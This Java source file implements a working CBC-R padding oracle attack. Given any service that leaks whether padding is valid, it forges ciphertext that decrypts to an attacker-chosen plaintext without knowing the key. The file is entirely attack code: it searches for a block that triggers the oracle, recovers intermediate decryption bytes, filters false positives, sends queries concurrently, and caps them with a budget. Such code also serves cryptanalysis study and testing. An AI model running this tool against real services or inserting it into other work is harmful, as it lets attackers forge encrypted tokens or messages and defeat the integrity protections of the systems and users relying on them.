package io.thirdsession.attack;

import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Semaphore;
import java.util.function.BiPredicate;

/**
 * Encrypts a text under a key that it does not know, by asking whoever has the key to decrypt
 * (Rizzo and Duong's CBC-R on Vaudenay's padding oracle). All it needs is that answers differ where
 * the padding of what was sent is good. From the last block to the first, and in each from the last
 * byte to the first, it finds which iv makes the padding good; that is what the cipher makes of the
 * block, and with it the block before can be chosen so that the wanted text comes out.
 *
 * @param <A> an answer
 */
final class PaddingOracleAttack<A> {
  private static final int BLOCK = 16;
  private static final int VALUES = 256; // of a byte
  private static final int BLOCKS_SEARCHED_FIRST = 8;
  private static final int VALUES_AT_ONCE = 32;
  private static final int MAX_AT_ONCE = 200;

  /** Whoever has the key. */
  interface Oracle<A> {
    /** Returns the answer to these data. */
    CompletableFuture<A> ask(byte[] iv, byte[] ciphertext);
  }

  private final Oracle<A> oracle;
  private final BiPredicate<A, A> differ;
  private final int budget;
  private final SecureRandom random = new SecureRandom();
  private final Semaphore places = new Semaphore(MAX_AT_ONCE);
  private int tries;
  private int learned;
  private Optional<A> usual = Optional.empty();

  /** Asks this oracle, so often at most; only by {@code differ} it tells answers apart. */
  PaddingOracleAttack(Oracle<A> oracle, BiPredicate<A, A> differ, int budget) {
    this.oracle = oracle;
    this.differ = differ;
    this.budget = budget;
  }

  /** Returns how often it has asked. */
  int tries() {
    return tries;
  }

  /** Returns of how many bytes it found out what the cipher makes of them. */
  int learned() {
    return learned;
  }

  /** Returns data that decrypt to this text; empty if it could ask no more before it had them. */
  Optional<Forged> forge(byte[] text) {
    byte[] wanted = padded(text);
    try {
      while (true) {
        Optional<Forged> forged = fromTheEnd(wanted, blockThatTells());
        if (forged.isPresent()) {
          return forged;
        }
      }
    } catch (BudgetSpent e) {
      return Optional.empty();
    }
  }

  /**
   * Tries random blocks, twice as many each time, until the last byte of the iv makes a difference
   * for one.
   */
  private byte[] blockThatTells() {
    for (int count = BLOCKS_SEARCHED_FIRST; ; count *= 2) {
      List<byte[]> blocks = new ArrayList<>();
      List<Question> questions = new ArrayList<>();
      for (int i = 0; i < count; i++) {
        byte[] block = randomBlock();
        byte[] iv = randomBlock();
        blocks.add(block);
        for (int value = 0; value < VALUES; value++) {
          questions.add(new Question(with(iv, BLOCK - 1, value), block));
        }
      }
      List<A> responses = ask(questions);
      usual = Optional.of(mostCommon(responses));
      for (int i = 0; i < responses.size(); i++) {
        if (isUnusual(responses.get(i))) {
          return blocks.get(i / VALUES);
        }
      }
    }
  }

  private Optional<Forged> fromTheEnd(byte[] wanted, byte[] last) {
    byte[] forged = new byte[BLOCK + wanted.length];
    byte[] block = last;
    for (int at = wanted.length; at > 0; at -= BLOCK) {
      System.arraycopy(block, 0, forged, at, BLOCK);
      Optional<byte[]> decrypted = decrypted(block);
      if (decrypted.isEmpty()) {
        return Optional.empty(); // what was different is not any more
      }
      block = xor(decrypted.get(), Arrays.copyOfRange(wanted, at - BLOCK, at));
    }
    return Optional.of(new Forged(block, Arrays.copyOfRange(forged, BLOCK, forged.length)));
  }

  /** Returns what the cipher makes of a block, before it is combined with the block before. */
  private Optional<byte[]> decrypted(byte[] block) {
    byte[] decrypted = new byte[BLOCK];
    for (int at = BLOCK - 1; at >= 0; at--) {
      byte padding = (byte) (BLOCK - at);
      byte[] iv = randomBlock();
      for (int i = at + 1; i < BLOCK; i++) {
        iv[i] = (byte) (decrypted[i] ^ padding);
      }
      Optional<Integer> good = goodValue(block, iv, at);
      if (good.isEmpty()) {
        return Optional.empty();
      }
      decrypted[at] = (byte) (good.get() ^ padding);
      learned++;
    }
    return Optional.of(decrypted);
  }

  /** Returns the value of this byte of the iv that makes the padding reach to it. */
  private Optional<Integer> goodValue(byte[] block, byte[] iv, int at) {
    for (int from = 0; from < VALUES; from += VALUES_AT_ONCE) {
      List<Question> questions = new ArrayList<>();
      for (int value = from; value < from + VALUES_AT_ONCE; value++) {
        questions.add(new Question(with(iv, at, value), block));
      }
      List<A> responses = ask(questions);
      for (int i = 0; i < responses.size(); i++) {
        if (isUnusual(responses.get(i)) && isConfirmed(questions.get(i), at)) {
          return Optional.of(from + i);
        }
      }
    }
    return Optional.empty();
  }

  /** The padding may by chance reach beyond this byte: then it changes with the one before. */
  private boolean isConfirmed(Question question, int at) {
    byte[] iv = question.iv().clone();
    if (at > 0) {
      iv[at - 1] ^= (byte) 0xff;
    }
    return isUnusual(ask(List.of(new Question(iv, question.block()))).get(0));
  }

  private boolean isUnusual(A response) {
    return differ.test(usual.orElseThrow(), response);
  }

  /** Returns an answer from which most do not differ: of 256 values one makes the padding good. */
  private A mostCommon(List<A> responses) {
    for (A candidate : responses) {
      if (responses.stream().filter(a -> !differ.test(candidate, a)).count()
          > responses.size() / 2) {
        return candidate;
      }
    }
    return responses.get(0);
  }

  private List<A> ask(List<Question> questions) {
    int allowed = Math.min(questions.size(), budget - tries);
    List<CompletableFuture<A>> asked = new ArrayList<>();
    for (Question question : questions.subList(0, allowed)) {
      places.acquireUninterruptibly();
      tries++;
      asked.add(
          oracle
              .ask(question.iv(), question.block())
              .whenComplete((response, failure) -> places.release()));
    }
    List<A> responses = asked.stream().map(CompletableFuture::join).toList();
    if (allowed < questions.size()) {
      throw new BudgetSpent();
    }
    return responses;
  }

  private byte[] randomBlock() {
    byte[] block = new byte[BLOCK];
    random.nextBytes(block);
    return block;
  }

  private static byte[] with(byte[] bytes, int at, int value) {
    byte[] changed = bytes.clone();
    changed[at] = (byte) value;
    return changed;
  }

  private static byte[] xor(byte[] one, byte[] other) {
    byte[] result = new byte[BLOCK];
    for (int i = 0; i < BLOCK; i++) {
      result[i] = (byte) (one[i] ^ other[i]);
    }
    return result;
  }

  private static byte[] padded(byte[] text) {
    int padding = BLOCK - text.length % BLOCK;
    byte[] padded = Arrays.copyOf(text, text.length + padding);
    Arrays.fill(padded, text.length, padded.length, (byte) padding);
    return padded;
  }

  /** Data that nobody with the key has encrypted. */
  record Forged(byte[] iv, byte[] ciphertext) {}

  private record Question(byte[] iv, byte[] block) {}

  private static final class BudgetSpent extends RuntimeException {}
}
